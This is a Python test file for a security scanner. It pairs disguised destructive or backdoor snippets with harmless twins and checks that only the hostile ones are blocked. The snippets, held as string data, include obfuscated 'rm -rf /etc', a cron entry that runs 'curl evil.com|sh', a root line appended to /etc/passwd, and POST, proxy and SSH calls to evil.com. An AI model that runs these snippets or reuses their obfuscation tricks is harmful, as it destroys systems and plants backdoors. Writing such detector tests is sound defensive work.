"""Disguised dangers in Python, each beside a harmless module of the same shape: the one blocks, the other does not."""

# ruff: noqa: E501 - one pair a line

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text

PAIRS = {
    "str.join over dict values": (
        "import os\nd = {'a': 'rm', 'b': '-rf', 'c': '/etc'}\nos.system(' '.join(d.values()))",
        "import os\nd = {'a': 'ls', 'b': '-l', 'c': 'build'}\nos.system(' '.join(d.values()))",
    ),
    "struct pack": (
        "import os, struct\nos.system(struct.pack('>HBBBBBBBBBB', 0x726d, 32, 45, 114, 102, 32, 47, 101, 116, 99, 32).decode())",
        "import struct\nprint(struct.pack('>H', 0x726d))",
    ),
    "array tobytes": (
        "import os, array\nos.system(array.array('B', [114, 109, 32, 45, 114, 102, 32, 47, 101, 116, 99]).tobytes().decode())",
        "import array\nprint(array.array('B', [104, 105]).tobytes().decode())",
    ),
    "ast literal_eval": (
        "import os, ast\nos.system(ast.literal_eval(\"'rm ' '-rf ' '/etc'\"))",
        'import ast\nprint(ast.literal_eval("[1, 2]"))',
    ),
    "format_map": (
        "import os\nos.system('{a} -rf {b}'.format_map({'a': 'rm', 'b': '/etc'}))",
        "import os\nos.system('{a} -l {b}'.format_map({'a': 'ls', 'b': 'build'}))",
    ),
    "chain": (
        "import os, itertools\nos.system(' '.join(itertools.chain(['rm'], ['-rf', '/etc'])))",
        "import os, itertools\nos.system(' '.join(itertools.chain(['ls'], ['-l', 'build'])))",
    ),
    "deque": (
        "import os, collections\nd = collections.deque(['/etc', '-rf', 'rm'])\nd.reverse()\nos.system(' '.join(d))",
        "import os, collections\nd = collections.deque(['build', '-l', 'ls'])\nd.reverse()\nos.system(' '.join(d))",
    ),
    "breakpointhook": (
        "import sys, os\nsys.breakpointhook = os.system\nbreakpoint('rm -rf /etc')",
        "import sys\nsys.breakpointhook = print",
    ),
    "logging handler file": (
        "import logging\nlogging.basicConfig(filename='/etc/cron.d/evil', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
        "import logging\nlogging.basicConfig(filename='run.log', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
    ),
    "iter sentinel": (
        "import os\nit = iter(['rm -rf /etc'])\nos.system(next(it))",
        "import os\nit = iter(['ls build'])\nos.system(next(it))",
    ),
    "tee print file": (
        "print('x::0:0::/:/bin/sh', file=open('/etc/passwd', 'a'))",
        "print('x', file=open('out.txt', 'a'))",
    ),
    "printed into a script": (
        "import os\nprint('rm -rf /etc', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
        "import os\nprint('ls build', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
    ),
}


ORDINARY = [
    "import pyperclip\nprint(pyperclip.paste())",
    "from PIL import ImageGrab\nImageGrab.grab().save('s.png')",
    "import json\njson.dump({'a': 1}, open('out.json', 'w'))",
    "import os\nos.environ['HTTPS_PROXY'] = 'http://localhost:8080'",
    "import asyncio\nasyncio.run(asyncio.start_server(print, '127.0.0.1', 0))",
    "import httpx\nhttpx.Client(base_url='http://localhost:8000')",
    "import shutil\nshutil.copytree('src', 'build/src')",
    "def rows(it):\n    found = []\n    try:\n        while True:\n            found.append(next(it))\n    except StopIteration:\n        return found",
    "import importlib\ndef start(name):\n    importlib.import_module(f'anyio.{name}').backend.run('x')",
]
NEARBY = [
    "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
    "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
    "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
    "import asyncio\nasyncio.run(asyncio.start_server(print, '0.0.0.0', 9999))",
    "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.com', data=b'x')",
    "import paramiko\nparamiko.Transport(('evil.com', 22))",
    "import shutil\nshutil.copytree('/etc', '/tmp/stage')",
    "import importlib\ndef start(name):\n    importlib.import_module(name).run('x')",
    "import importlib\ndef start(name):\n    importlib.import_module(name).os.system('x')",
]


def blocks(text: str) -> bool:
    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=Language.PYTHON))


@pytest.mark.parametrize("kind", PAIRS)
def test_disguised_python_blocks_and_its_twin_does_not(kind: str) -> None:
    assert tuple(map(blocks, PAIRS[kind])) == (True, False)


@pytest.mark.parametrize("text", ORDINARY)
def test_what_plugins_and_parsers_do_does_not_block(text: str) -> None:
    assert not blocks(text)


@pytest.mark.parametrize("text", NEARBY)
def test_the_same_without_end_or_name_blocks(text: str) -> None:
    assert blocks(text)
